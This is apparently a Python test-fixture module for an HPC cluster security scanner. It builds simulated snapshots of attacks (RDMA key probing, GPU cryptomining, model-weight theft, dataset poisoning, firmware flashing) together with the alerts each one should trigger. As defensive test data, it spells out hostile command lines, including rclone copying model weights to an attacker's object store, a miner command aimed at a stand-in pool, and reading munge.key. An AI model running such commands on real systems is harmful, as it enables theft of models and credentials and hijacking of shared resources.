"""Attack scenarios, at least three per threat vector, each beside alice's training job.

A scenario is a function returning a Scenario; its `expected` list names the rules that must
fire and the host, job, user and GPU the alerts must carry. `demo_samples` merges one attack of
every vector into one snapshot for `hpcsec scan --demo`.
"""

from __future__ import annotations

from scenario_common import (
    IDLE_RATES,
    NODE,
    alert,
    dataloader_reads,
    nccl_rates,
    node_sample,
)
from scenario_node_attacks import (
    BOB_JOB,
    MALLORY_JOB,
    firmware_flashed_by_user,
    firmware_vbios_changed,
    firmware_vulnerable_hca,
    isolation_ld_preload,
    isolation_leftovers_and_ecc,
    isolation_munge_key,
    isolation_shared_gpu,
    isolation_slurm_config,
    scenario,
    times,
)
from snapshot_model import FileAccess, GpuProc, Proc, Qp, Sample, Scenario, Sock

POOL = ("203.0.113.50", 3333)  # a stratum mining pool (TEST-NET-3 address)
DROP = ("198.51.100.23", 443)  # an attacker's object store (TEST-NET-2 address)
LLAMA70 = "/lustre/models/llama-70b"
LLAMA405 = "/lustre/models/llama-405b"


def shards(base: str, total: int, first: int, n: int) -> list[str]:
    return [f"{base}/model-{i:05d}-of-{total:05d}.safetensors" for i in range(first, first + n)]


# ------------------------------------------------------------------------ rdma_abuse


def rdma_rkey_probing() -> Scenario:
    """A peer brute-forces rkeys of this node: ~35 responder access errors per sample."""
    samples = []
    for t in times(7):
        rates = nccl_rates()
        rates["mlx5_2"]["resp_remote_access_errors"] = 3.5
        samples.append(node_sample(t, rdma_rates=rates))
    return scenario(
        "rdma_abuse-rkey-probing",
        "a remote peer probes rkeys of alice's "
        "registered memory: remote access errors climb on mlx5_2",
        samples,
        [
            alert(
                "86512c1a-36af-4394-b0b4-c2a3fb74cd6f",
                "RDMA rkey probing (remote access errors per minute)",
            )
        ],
    )


def rdma_qp_outside_job() -> Scenario:
    """mallory runs an RDMA READ tool over SSH, outside any job."""
    tool = Proc(
        66100, "mallory", ["/usr/bin/ib_read_bw", "-d", "mlx5_1", "-s", "8388608", "10.30.0.18"]
    )
    samples = [
        node_sample(t, procs=[tool], qps=[Qp("mlx5_1", 0x3300, 66100, "ib_read_bw", rqpn=0x4400)])
        for t in times(3)
    ]
    return scenario(
        "rdma_abuse-qp-outside-job",
        "mallory opens an RDMA queue pair from an SSH session with no Slurm job",
        samples,
        [
            alert(
                "1a571c96-702d-4b79-a584-c65d36ff1e36",
                "RDMA queue pair owned by a process outside any job",
            )
        ],
    )


def rdma_idle_node_traffic() -> Scenario:
    """No job on the node, yet 3 GB/s leave mlx5_1: a data mover started over SSH."""
    mover = Proc(
        66400,
        "mallory",
        [
            "/home/mallory/bin/ibsend",
            "--dev",
            "mlx5_1",
            "--to",
            "10.30.9.250",
            "/lustre/scratch/mallory/pack",
        ],
    )
    samples = []
    for t in times(3):
        rates = {dev: dict(r) for dev, r in IDLE_RATES.items()}
        rates["mlx5_1"].update(port_xmit_data=3.0e9, port_xmit_packets=7.3e5)
        samples.append(
            node_sample(
                t,
                busy=False,
                procs=[mover],
                rdma_rates=rates,
                qps=[Qp("mlx5_1", 0x3500, 66400, "ibsend", rqpn=0x77)],
            )
        )
    return scenario(
        "rdma_abuse-idle-node-traffic",
        "gpu-017 runs no job, yet a process outside Slurm sends 3 GB/s over mlx5_1",
        samples,
        [
            alert(
                "1a571c96-702d-4b79-a584-c65d36ff1e36",
                "RDMA queue pair owned by a process outside any job",
            ),
            alert(
                "c2db4421-b6c2-4d00-9a21-d8e027cd3f54",
                "RDMA traffic on a node with no running job",
                requires={"rdma_counters": "slurm.node.job_count"},
            ),
        ],
    )


def rdma_qp_foreign_user() -> Scenario:
    """mallory's process sits in alice's job cgroup and holds an RDMA queue pair there."""
    injected = Proc(66500, "mallory", ["/usr/bin/python3", "/tmp/.m/peek.py"], job=4242)
    samples = [
        node_sample(t, procs=[injected], qps=[Qp("mlx5_0", 0x3600, 66500, "python3", rqpn=0x1201)])
        for t in times(2)
    ]
    return scenario(
        "rdma_abuse-qp-foreign-user",
        "a process of mallory inside alice's job 4242 holds an RDMA queue pair",
        samples,
        [
            alert(
                "0462602c-c86e-4e66-91b6-6c2481c3bc90",
                "RDMA queue pair of a job owned by another user",
                job="4242",
                user="mallory",
                requires={"rdma_qp": "user.name"},
            )
        ],
    )


def rdma_read_surge() -> Scenario:
    """One-sided READ requests jump from nothing to 900k/s on mlx5_1 during training."""
    samples = [
        node_sample(t, rdma_rates=nccl_rates(reads_per_s=9.0e5 if i else 0.0))
        for i, t in enumerate(times(3))
    ]
    return scenario(
        "rdma_abuse-read-surge",
        "a peer pulls memory out of gpu-017 with RDMA "
        "READs: 900k READ requests per second on mlx5_1",
        samples,
        [alert("a0da42a0-f598-4fd2-a20a-eed88f41a1a7", "Surge of one-sided RDMA READ requests")],
    )


def rdma_requester_probing() -> Scenario:
    """mallory's job on this node is the prober: its requests are NAKed for bad rkeys."""
    prober = Proc(
        66300,
        "mallory",
        [
            "/home/mallory/bin/rkscan",
            "--dev",
            "mlx5_0",
            "--peer",
            "10.30.0.18",
            "--keys",
            "0x1000-0xffff",
        ],
        job=4250,
    )
    samples = []
    for t in times(3):
        rates = nccl_rates()
        rates["mlx5_0"]["req_remote_access_errors"] = 60.0
        samples.append(
            node_sample(
                t,
                procs=[prober],
                jobs=[MALLORY_JOB],
                rdma_rates=rates,
                qps=[Qp("mlx5_0", 0x3400, 66300, "rkscan", rqpn=0x21)],
            )
        )
    return scenario(
        "rdma_abuse-requester-probing",
        "mallory's job probes rkeys of gpu-018 "
        "from gpu-017: ~600 requests per sample rejected with remote access "
        "errors",
        samples,
        [
            alert(
                "21eee285-9dbd-4e94-bb9d-0d0f1c3345ae",
                "Node issued many RDMA requests rejected for bad keys",
            )
        ],
    )


# ------------------------------------------------------------------------ gpu_hijack


def miner(pid: int = 51000, gpu: int = 7) -> tuple[Proc, GpuProc, Sock]:
    return (
        Proc(
            pid,
            "mallory",
            [
                "/home/mallory/.local/bin/python3",
                "/tmp/.x/worker.py",
                "--algo",
                "kawpow",
                "--url",
                f"stratum+tcp://{POOL[0]}:{POOL[1]}",
            ],
            comm="python3",
        ),
        GpuProc(gpu, pid, 11 << 30),
        Sock(pid, (NODE.ip, 51234), POOL),
    )


def gpu_miner_without_job() -> Scenario:
    proc, gpu_proc, sock = miner()
    samples = [node_sample(t, procs=[proc], gpu_procs=[gpu_proc], sockets=[sock]) for t in times(3)]
    return scenario(
        "gpu_hijack-miner-without-job",
        "mallory mines on GPU 7 from a process outside Slurm, connected to a stratum pool",
        samples,
        [
            alert(
                "761aedd6-bf44-46ef-8eb3-9259427d5ab7",
                "GPU process outside any Slurm job",
                user="mallory",
                gpu=7,
            ),
            alert(
                "743946f7-19b5-40ca-97f8-197cf6f01537",
                "Cryptocurrency miner process",
                user="mallory",
            ),
            alert(
                "f10b2d6b-5f28-4805-a042-13d112c12370",
                "GPU process outside a job talking to a mining pool",
            ),
        ],
    )


def gpu_outside_allocation() -> Scenario:
    """A process of alice's job (GPUs 0-3) also grabs GPU 6."""
    rogue = Proc(
        41007,
        "alice",
        ["/usr/bin/python3", "-u", "train.py", "--extra-gpu"],
        job=4242,
        env={"CUDA_VISIBLE_DEVICES": "6"},
    )
    samples = [node_sample(t, procs=[rogue], gpu_procs=[GpuProc(6, 41007)]) for t in times(3)]
    return scenario(
        "gpu_hijack-outside-allocation",
        "a process of alice's job 4242 runs on GPU 6, outside the job's allocation (GPUs 0-3)",
        samples,
        [
            alert(
                "9544d1e5-55bb-4e73-8fe3-dc7ac49a0586",
                "Job process on a GPU outside its allocation",
                job="4242",
                user="alice",
                gpu=6,
            )
        ],
    )


def gpu_exposed_services() -> Scenario:
    """bob's job serves Jupyter and a Ray dashboard on every interface."""
    lab = Proc(
        42000,
        "bob",
        [
            "/usr/bin/python3",
            "/home/bob/.local/bin/jupyter-lab",
            "--ip=0.0.0.0",
            "--port=8888",
            "--no-browser",
        ],
        job=4260,
        comm="jupyter-lab",
    )
    ray = Proc(
        42100,
        "bob",
        ["/usr/bin/python3", "-m", "ray.dashboard.dashboard", "--host=0.0.0.0", "--port=8265"],
        job=4260,
    )
    extra = dict(
        procs=[lab, ray],
        jobs=[BOB_JOB],
        sockets=[
            Sock(42000, ("0.0.0.0", 8888), state="LISTEN"),
            Sock(42100, ("0.0.0.0", 8265), state="LISTEN"),
        ],
    )
    samples = [node_sample(t, **extra) for t in times(2)]
    return scenario(
        "gpu_hijack-exposed-services",
        "bob's job 4260 exposes Jupyter and the Ray dashboard on 0.0.0.0 of a compute node",
        samples,
        [
            alert(
                "b6bd43b5-dda7-4aab-96a4-57ddfde69cec",
                "Inference, notebook or Ray service listening on a compute node",
                job="4260",
                user="bob",
            )
        ],
    )


# ------------------------------------------------------------------------ model_theft


def model_unauthorised_reader() -> Scenario:
    """mallory's job (account students) loads llama-70b, reserved to llm-core."""
    thief = Proc(61000, "mallory", ["/usr/bin/python3", "load.py", LLAMA70], job=4250)
    files = [FileAccess(61000, p, ["open", "read"], count=40) for p in shards(LLAMA70, 30, 1, 3)]
    samples = [
        node_sample(t, procs=[thief], jobs=[MALLORY_JOB], files=files if i == 1 else [])
        for i, t in enumerate(times(2))
    ]
    return scenario(
        "model_theft-unauthorised-reader",
        "mallory's job 4250 (account students) reads llama-70b, which only llm-core may read",
        samples,
        [
            alert(
                "4c174e27-ed1a-4006-900a-52f92b9e8ebf",
                "Model weights read by an account not allowed for that model",
                job="4250",
                user="mallory",
            )
        ],
    )


def model_rclone_exfiltration() -> Scenario:
    """alice (allowed to read) copies llama-70b off the cluster with rclone, in her job."""
    rclone = Proc(
        61100,
        "alice",
        ["/usr/bin/rclone", "copy", LLAMA70, "drop:bucket/m"],
        job=4242,
        step="extern",
    )
    files = [
        FileAccess(61100, p, ["open", "read"], count=2400, size=4_983_000_000)
        for p in shards(LLAMA70, 30, 1, 4)
    ]
    samples = [
        node_sample(times(3)[0], procs=[rclone]),
        node_sample(times(3)[1], procs=[rclone], files=files),
        node_sample(times(3)[2], procs=[rclone], sockets=[Sock(61100, (NODE.ip, 53002), DROP)]),
    ]
    return scenario(
        "model_theft-rclone-exfiltration",
        "alice copies llama-70b to an outside object store with rclone from inside her job",
        samples,
        [
            alert(
                "2bfe7e5b-9535-4165-b5f8-2deff1e79153",
                "Model weights read by a copy or network tool",
                job="4242",
                user="alice",
            ),
            alert(
                "29a01723-7079-494a-a963-9f1f09050a8b",
                "Model weights read, then a connection out of the cluster",
            ),
        ],
    )


def model_bulk_sweep() -> Scenario:
    """alice reads 80 distinct llama-405b shards in a minute from an SSH session."""
    sweep = Proc(61200, "alice", ["/usr/bin/python3", "-c", "import shutil,sys; ..."])
    paths = shards(LLAMA405, 191, 1, 80)
    samples = [
        node_sample(
            t,
            procs=[sweep],
            files=[
                FileAccess(61200, p, ["open", "read"], count=300)
                for p in paths[40 * (i - 1) : 40 * i]
            ]
            if i
            else [],
        )
        for i, t in enumerate(times(3))
    ]
    return scenario(
        "model_theft-bulk-sweep",
        "alice sweeps 80 shards of llama-405b within a minute, outside any job",
        samples,
        [
            alert(
                "d645ba84-0dfe-4c7d-87cd-3046bceb1766",
                "Many distinct model weight files read by one user",
                user="alice",
            ),
            alert(
                "65caeae4-39b1-44e5-87be-dc77c7e347fa",
                "Model weights read outside any Slurm job",
                user="alice",
            ),
        ],
    )


# ------------------------------------------------------------------------ data_poisoning


def poison_dataset_by_non_publisher() -> Scenario:
    """bob's job rewrites ImageNet labels and images it may only read."""
    writer = Proc(62100, "bob", ["/usr/bin/python3", "relabel.py"], job=4260)
    base = "/lustre/datasets/imagenet"
    files = [
        FileAccess(
            62100, f"{base}/train/n01440764/n01440764_{k}.JPEG", ["open", "write", "close_write"]
        )
        for k in (10026, 10027)
    ]
    files.append(
        FileAccess(
            62100,
            f"{base}/LOC_synset_mapping.txt",
            ["rename"],
            target=f"{base}/LOC_synset_mapping.txt.orig",
        )
    )
    files.append(
        FileAccess(
            62100, f"{base}/train/sitecustomize.py", ["create", "write", "close_write"], size=2048
        )
    )
    samples = [
        node_sample(t, procs=[writer], jobs=[BOB_JOB], files=files if i else [])
        for i, t in enumerate(times(2))
    ]
    return scenario(
        "data_poisoning-dataset-by-non-publisher",
        "bob's job 4260 modifies and "
        "renames files of the read-only imagenet dataset and drops a Python "
        "module into it",
        samples,
        [
            alert(
                "002b7b30-aff2-42bd-bdc4-f1ceeca24e61",
                "Read-only dataset modified by a non-publisher",
                job="4260",
                user="bob",
            ),
            alert(
                "5fef83e7-04d7-498d-93f7-be6dc1641698",
                "Code or pickle file dropped into a dataset",
                job="4260",
                user="bob",
            ),
        ],
    )


def poison_released_checkpoint() -> Scenario:
    """mallory overwrites a released checkpoint shard (pickle with a payload)."""
    writer = Proc(62200, "mallory", ["/usr/bin/python3", "patch_ckpt.py"])
    path = "/lustre/checkpoints/released/llama-70b-sft/step-5000/model.pt"
    samples = [
        node_sample(
            t,
            procs=[writer],
            files=[FileAccess(62200, path, ["open", "write", "close_write"], size=1_342_177_280)]
            if i
            else [],
        )
        for i, t in enumerate(times(2))
    ]
    return scenario(
        "data_poisoning-released-checkpoint",
        "mallory overwrites a released checkpoint from an SSH session",
        samples,
        [
            alert(
                "ad664489-a053-48ac-b1bf-a6cf63b0cfe0",
                "Released checkpoint modified by a non-publisher",
                user="mallory",
            )
        ],
    )


def poison_burst_during_training() -> Scenario:
    """The publisher account (compromised) rewrites 24 c4 shards while alice trains on c4."""
    writer = Proc(62300, "svc-data", ["/usr/bin/python3", "/opt/publish/sync.py", "--force"])
    samples = []
    for i, t in enumerate(times(3)):
        files = dataloader_reads(41000, 4 * i)
        if i:
            files += [
                FileAccess(
                    62300,
                    f"/lustre/datasets/c4/en/c4-train.{k:05d}-of-01024.json.gz",
                    ["create", "write", "close_write"],
                )
                for k in range(12 * (i - 1), 12 * i)
            ]
        samples.append(node_sample(t, procs=[writer], files=files))
    return scenario(
        "data_poisoning-burst-during-training",
        "24 shards of c4 are rewritten within 20 seconds while alice's job 4242 reads c4",
        samples,
        [
            alert(
                "ba2cd488-f3c1-4bca-b347-8fa705e7f55b",
                "Burst of modifications to a protected dataset",
            ),
            alert(
                "92ced819-f344-4ef6-92c1-7cf65fbff758",
                "Dataset modified while a training job reads it",
            ),
        ],
    )


ATTACKS = (
    rdma_rkey_probing,
    rdma_requester_probing,
    rdma_qp_outside_job,
    rdma_read_surge,
    rdma_idle_node_traffic,
    rdma_qp_foreign_user,
    gpu_miner_without_job,
    gpu_outside_allocation,
    gpu_exposed_services,
    model_unauthorised_reader,
    model_rclone_exfiltration,
    model_bulk_sweep,
    poison_dataset_by_non_publisher,
    poison_released_checkpoint,
    poison_burst_during_training,
    firmware_vulnerable_hca,
    firmware_flashed_by_user,
    firmware_vbios_changed,
    isolation_shared_gpu,
    isolation_munge_key,
    isolation_slurm_config,
    isolation_ld_preload,
    isolation_leftovers_and_ecc,
)


def demo_samples() -> tuple[list[Sample], list[dict]]:
    """One node, four samples: alice trains while one attack of every vector happens."""
    t = times(4)
    miner_proc, miner_gpu, miner_sock = miner()
    rclone = Proc(
        61100,
        "alice",
        ["/usr/bin/rclone", "copy", LLAMA70, "drop:bucket/m"],
        job=4242,
        step="extern",
    )
    relabel = Proc(62100, "bob", ["/usr/bin/python3", "relabel.py"], job=4260)
    flint = Proc(63000, "bob", ["/usr/bin/mstflint", "-d", "0000:1b:00.0", "-y", "burn"], job=4260)
    cat = Proc(64100, "root", ["cat", "/etc/munge/munge.key"], ppid=64090)
    # mallory's process hides in alice's job cgroup and holds an RDMA queue pair there
    injected = Proc(66500, "mallory", ["/usr/bin/python3", "/tmp/.m/peek.py"], job=4242)
    # a process of alice's job grabs GPU 6, outside the job's allocation (GPUs 0-3)
    rogue = Proc(
        41007,
        "alice",
        ["/usr/bin/python3", "-u", "train.py", "--extra-gpu"],
        job=4242,
        env={"CUDA_VISIBLE_DEVICES": "6"},
    )
    procs = [miner_proc, rclone, relabel, flint, cat, injected, rogue]
    samples = []
    for i, when in enumerate(t):
        rates = nccl_rates()
        rates["mlx5_2"]["resp_remote_access_errors"] = 4.0
        files = dataloader_reads(41000, 4 * i)
        if i == 1:
            files += [
                FileAccess(61100, p, ["open", "read"], count=2400)
                for p in shards(LLAMA70, 30, 1, 4)
            ]
            files += [
                FileAccess(
                    62100,
                    "/lustre/datasets/imagenet/train/n01440764/n01440764_10026.JPEG",
                    ["open", "write", "close_write"],
                )
            ]
            files += [FileAccess(64100, "/etc/munge/munge.key", ["open", "read"])]
        sample = node_sample(
            when,
            jobs=[BOB_JOB],
            procs=list(procs),
            gpu_procs=[miner_gpu, GpuProc(6, 41007)],
            sockets=[miner_sock],
            files=files,
            rdma_rates=rates,
            qps=[Qp("mlx5_0", 0x3600, 66500, "python3", rqpn=0x1201)],
            hca_fw={"mlx5_2": "28.33.2028"},
        )
        for proc in sample.procs:  # alice's rank 1 picked up a CUDA hook from a bad package
            if proc.pid == 41001:
                proc.env["LD_PRELOAD"] = "/home/alice/.cache/pip/.hooks/libcudahook.so"
        samples.append(sample)
    expected = [
        alert(
            "86512c1a-36af-4394-b0b4-c2a3fb74cd6f",
            "RDMA rkey probing (remote access errors per minute)",
        ),
        alert(
            "0462602c-c86e-4e66-91b6-6c2481c3bc90",
            "RDMA queue pair of a job owned by another user",
            job="4242",
            user="mallory",
        ),
        alert(
            "761aedd6-bf44-46ef-8eb3-9259427d5ab7",
            "GPU process outside any Slurm job",
            user="mallory",
            gpu=7,
        ),
        alert(
            "9544d1e5-55bb-4e73-8fe3-dc7ac49a0586",
            "Job process on a GPU outside its allocation",
            job="4242",
            user="alice",
            gpu=6,
        ),
        alert(
            "72377c41-beb2-4055-9a89-cbaab0a7bcc1",
            "LD_PRELOAD set in a job's GPU process",
            job="4242",
            user="alice",
        ),
        alert(
            "2bfe7e5b-9535-4165-b5f8-2deff1e79153",
            "Model weights read by a copy or network tool",
            job="4242",
            user="alice",
        ),
        alert(
            "002b7b30-aff2-42bd-bdc4-f1ceeca24e61",
            "Read-only dataset modified by a non-publisher",
            job="4260",
            user="bob",
        ),
        alert(
            "34d03740-1969-41cf-adbc-7ecec0a1af84",
            "Firmware version on the site's known-vulnerable list",
        ),
        alert(
            "7bde829e-9a4c-4a55-b558-b5728fff32e0",
            "Firmware flashing tool run by a non-admin or inside a job",
            job="4260",
            user="bob",
        ),
        alert(
            "926ff8b4-dbdd-4d0b-960a-78c51984278a",
            "munge.key accessed by anything but munged",
            user="root",
        ),
    ]
    return samples, expected
